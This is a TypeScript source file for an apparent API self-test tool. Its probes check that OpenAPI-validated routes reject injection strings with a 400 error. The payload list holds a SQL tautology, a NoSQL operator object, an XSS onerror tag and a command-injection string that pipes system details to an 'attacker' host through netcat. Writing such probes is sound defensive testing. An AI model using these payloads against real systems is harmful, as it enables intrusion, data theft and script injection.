/**
 * Injection strings against validated fields: each of SQL, NoSQL, command and HTML/script payloads
 * as a path parameter of a route bound to its OpenAPI contract (validate), and a NoSQL operator
 * object as a JSON body. The contract, not the upstream, must refuse them: 400
 * validation.failed, sent by the caller selftest holds so that authentication is not what
 * refuses. A field the contract leaves as any string lets them through: the probe fails, and the
 * fix is a pattern, an enum or a format in the contract.
 */
import { OWASP } from '../../preflight/check.js';
import { describeAnswer, type Answer } from '../client.js';
import { defineProbes, skip, verdict, type ProbeContext, type ProbeResult } from '../probe.js';
import { fillPath, routeHeaders, routeWhere, type ProbeRoute } from '../routes.js';
import { BODY_METHODS } from './auth.js';

/** Without `/`: an encoded slash in a path is refused before validation (server/request-target.ts), which would hide what the contract does. */
export const INJECTIONS: ReadonlyArray<readonly [string, string]> = [
  ['SQL', "1' OR '1'='1' --"],
  ['NoSQL', '{"$gt":""}'],
  ['command', '$(id);uname -a|nc attacker 80'],
  ['HTML/script', '<img src=x onerror=alert(1)>'],
];

/** How long the probe waits for a rate limit it meets to let it through again, in milliseconds. */
const MAX_RATE_WAIT_MS = 2000;

export const injectionProbes = defineProbes(
  'injection',
  {
    pathParameter: { id: 'ST-INJ-001', severity: 'high', title: 'SQL, NoSQL, command and HTML/script strings as a validated path parameter', expected: '400 validation.failed', why: `${OWASP.API8} (injection)` },
    operatorBody: { id: 'ST-INJ-002', severity: 'high', title: 'A NoSQL operator object ({"$gt":""}) as the JSON body of a validated write', expected: '400 validation.failed', why: `${OWASP.API3}; ${OWASP.API8} (injection)` },
  },
  async (context, rules) => {
    const results: ProbeResult[] = [];
    const usable = (route: ProbeRoute) => route.validated && (route.authentication !== 'required' || (route.apiKey && context.credentials.apiKey !== undefined));
    const paramRoute = context.routes.find((route) => usable(route) && route.params.length > 0 && route.methods.includes('GET'));
    const bodyRoute = context.routes.find((route) => usable(route) && route.methods.some((method) => BODY_METHODS.has(method)));
    const why = context.routes.some((route) => route.validated) ? (context.credentials.missing ?? 'no validated route selftest can call') : 'no route is bound to a contract (validate)';
    if (paramRoute === undefined) results.push(skip(rules.pathParameter, why));
    else {
      for (const [name, payload] of INJECTIONS) {
        const path = fillPath(paramRoute.template, encodeURIComponent(payload));
        const answer = await sendPaced(context, paramRoute, 'GET', path);
        results.push(verdict(rules.pathParameter, answer.status === 400 && answer.code === 'validation.failed', describeAnswer(answer), `${routeWhere(paramRoute, path, 'GET')}: ${name}`));
      }
    }
    if (bodyRoute === undefined) results.push(skip(rules.operatorBody, why));
    else {
      const method = bodyRoute.methods.find((candidate) => BODY_METHODS.has(candidate))!;
      const answer = await sendPaced(context, bodyRoute, method, bodyRoute.path, '{"$gt":""}');
      results.push(verdict(rules.operatorBody, answer.status === 400 && answer.code === 'validation.failed', describeAnswer(answer), `${routeWhere(bodyRoute, bodyRoute.path, method)}: {"$gt":""}`));
    }
    return results;
  },
);

/** Sends as the throwaway caller; a 429 ratelimit.exceeded is waited out once (Retry-After, at most 2 s). */
async function sendPaced({ client, credentials }: ProbeContext, route: ProbeRoute, method: string, path: string, body?: string): Promise<Answer> {
  const headers = routeHeaders(route, { ...(route.authentication === 'required' ? { authorization: `Bearer ${credentials.apiKey!}` } : {}), ...(body === undefined ? {} : { 'content-type': 'application/json' }) });
  const answer = await client.send(method, path, { headers, body });
  if (answer.status !== 429 || answer.code !== 'ratelimit.exceeded') return answer;
  const waitMs = Math.min(MAX_RATE_WAIT_MS, Number(answer.headers['retry-after'] ?? 1) * 1000);
  await new Promise((resolve) => setTimeout(resolve, waitMs));
  return client.send(method, path, { headers, body });
}
